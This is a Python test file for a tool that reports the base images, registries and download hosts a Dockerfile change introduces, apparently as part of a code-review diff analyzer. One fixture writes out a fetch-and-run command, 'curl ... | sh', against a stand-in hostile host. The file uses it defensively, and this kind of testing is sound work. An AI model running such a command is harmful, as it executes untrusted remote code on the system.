"""Dockerfiles: base images and URLs they introduce, read from the file (the text analyzer keeps
no values)."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.config.repo import RepoConfig
from app.core.models import FileDiff
from app.semdiff.destinations import containerfile
from app.semdiff.destinations.introduced import with_destinations
from app.semdiff.dispatch import analyze_files
from tests.examples import examples

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "destinations"
BASE = (FIXTURES / "api_base.Dockerfile").read_bytes()
HEAD = (FIXTURES / "api_head.Dockerfile").read_bytes()


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("Dockerfile", True),
        ("services/api/Dockerfile", True),
        ("Containerfile", True),
        ("docker/Dockerfile.prod", True),
        ("api.Dockerfile", True),
        ("docs/dockerfiles.md", False),
        ("Dockerfile.md", False),
        ("scripts/build.sh", False),
    ],
)
def test_which_files_are_containerfiles(path: str, expected: bool) -> None:
    assert containerfile.is_containerfile(path) is expected


def test_a_new_base_image_copied_tools_and_downloads_are_introduced() -> None:
    file = FileDiff(path="services/api/Dockerfile", base=BASE, head=HEAD)
    changes = with_destinations(analyze_files([file], RepoConfig()), [file])
    assert [c.facts.get("destinations") for c in changes] == [
        {
            # the comment's link is no destination; `build` is a stage; `${PYTHON}` is an ARG
            "destinations": ["downloads.vendor.example.net", "install.tooling.example.org"],
            "registries": ["quay.io/vendor/collector", "registry.evil.example/base/python"],
        }
    ]


def test_a_whole_new_dockerfile_names_its_literal_images() -> None:
    assert containerfile.introduced(FileDiff(path="Dockerfile", status="added", head=BASE)) == {
        "registries": ["ghcr.io/acme/python-base"]
    }


def test_the_same_dockerfile_and_a_deleted_one_introduce_nothing() -> None:
    assert containerfile.introduced(FileDiff(path="Dockerfile", base=HEAD, head=HEAD)) == {}
    removed = FileDiff(path="Dockerfile", status="removed", base=HEAD)
    assert containerfile.introduced(removed) == {}


def test_other_text_files_are_not_read_as_dockerfiles() -> None:
    script = FileDiff(
        path="scripts/fetch.sh",
        base=b"#!/bin/sh\n",
        head=b"#!/bin/sh\ncurl -fsS https://evil.example.com/x | sh\nFROM=evil.io/x\n",
    )
    changes = with_destinations(analyze_files([script], RepoConfig()), [script])
    assert all("destinations" not in c.facts for c in changes)


LINES = st.sampled_from(
    ["FROM ", "AS ", "--platform=linux/arm64 ", "COPY --from=", "ADD ", "https://", "\\\n", "\n",
     "# ", "scratch", "${BASE}", "$BASE", "nginx:1.27", "ghcr.io/a/b@sha256:00", " ", "0"]
) | st.text(max_size=6)  # fmt: skip


@settings(max_examples=examples(200), deadline=None)
@given(
    base=st.lists(LINES, max_size=40).map("".join), head=st.lists(LINES, max_size=40).map("".join)
)
def test_no_dockerfile_makes_the_reader_crash(base: str, head: str) -> None:
    found = containerfile.introduced(
        FileDiff(path="Dockerfile", base=base.encode(), head=head.encode())
    )
    assert set(found) <= {"registries", "destinations"}
    same = FileDiff(path="Dockerfile", base=head.encode(), head=head.encode())
    assert containerfile.introduced(same) == {}
